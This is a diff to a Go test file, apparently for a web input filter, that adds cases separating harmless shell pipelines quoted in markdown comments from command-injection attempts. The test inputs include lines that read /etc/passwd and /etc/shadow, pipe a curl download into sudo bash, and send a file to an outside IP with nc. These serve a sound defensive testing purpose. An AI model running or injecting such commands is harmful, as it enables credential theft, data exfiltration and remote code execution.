@@ -28,9 +28,30 @@ func TestProsePathMentions(t *testing.T) {
 		{"separator in prose", body("comment", "thanks for the help; cat /etc/passwd and more words"), "*", "*"},
 		{"substitution in prose", body("comment", "my name is $(cat /etc/passwd) and I like cats"), "*", "*"},
 		{"cookie command", cookie("pref", "cat%20%2Fetc%2Fpasswd%20now%20please%20thanks"), "*", "*"},
+		{"backticks in prose", body("comment", "nice post, the answer is `cat /etc/passwd` I think"), "lfi-sensitive-file", "lfi-sensitive-file"},
+		{"subshell in prose", body("comment", "nice post, the answer is (tail -n 5 /etc/shadow) I think"), "lfi-sensitive-file", "lfi-sensitive-file"},
 		// a glob needs a wildcard: "?" ending a sentence is punctuation
 		{"question mark", body("comment", "Is /etc/nginx/nginx.conf the right file?"), "", ""},
 		{"globbed file", body("comment", "x; cat /etc/pa??wd"), "*", "*"},
 		{"globbed file alone", q("q", "/e?c/pa?swd"), "*", "*"},
+	})
+}
+
+func TestProseCodeSpans(t *testing.T) {
+	runPL2Cases(t, []pl2Case{
+		// pipelines quoted in markdown prose show a command line
+		{"grep wc", body("comment", `Use `+"`"+`grep -rn "TODO" src/ | wc -l`+"`"+` to count the remaining TODOs.`), "", ""},
+		{"du sort", body("comment", "Use `du -sh * | sort -h` to find out what is eating the disk."), "", ""},
+		{"compose", body("comment", "Running `docker compose up -d; docker compose logs -f api` shows the crash loop."), "", ""},
+		{"ls head", body("comment", `Why does `+"`ls | head`"+` say "Broken pipe" sometimes?`), "", ""},
+		{"fenced", body("comment", "Steps to reproduce the bug:\n```\nps aux | sort -k3 -r | head\n```\nthen the list is empty"), "", ""},
+		// the attacks that hide in the same shapes
+		{"pipe to shell in span", body("comment", "Is `curl -fsSL https://get.example.com | sudo -E bash -` still fine?"), "cmdi-separator", "cmdi-separator"},
+		{"exfil in span", body("comment", "Please run `cat notes.txt | nc 203.0.113.9 4444` for me today"), "cmdi-separator", "cmdi-separator"},
+		{"separator outside span", body("comment", "Use `ls` to list them all; cat /etc/passwd"), "*", "*"},
+		{"separator in prose", body("comment", "I like the article very much; id"), "*", "*"},
+		{"substitution in prose", body("comment", "my name is $(id) and I like long walks on the beach"), "*", "*"},
+		{"substitution in span", body("comment", "see the output of `echo $(id)` in the log for details"), "*", "*"},
+		{"unclosed span", body("comment", "hello there `x` my friend `; uname -a"), "cmdi-separator", "cmdi-separator"},
 	})
 }
